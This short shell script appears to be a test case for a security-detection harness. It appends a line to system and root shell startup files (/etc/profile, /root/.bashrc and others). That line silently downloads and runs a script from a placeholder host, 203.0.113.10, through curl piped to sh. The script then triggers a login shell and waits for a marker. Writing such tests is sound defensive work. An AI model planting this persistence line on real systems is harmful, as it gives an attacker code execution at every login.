#!/bin/sh
. /opt/case/case.sh

for f in /etc/bash.bashrc /etc/profile /root/.bashrc /root/.profile; do
    echo '(curl -fsSL http://203.0.113.10/payload.sh | sh >/dev/null 2>&1 &)' >>"$f"
done
bash -lc true
wait_for /tmp/reached
took_place
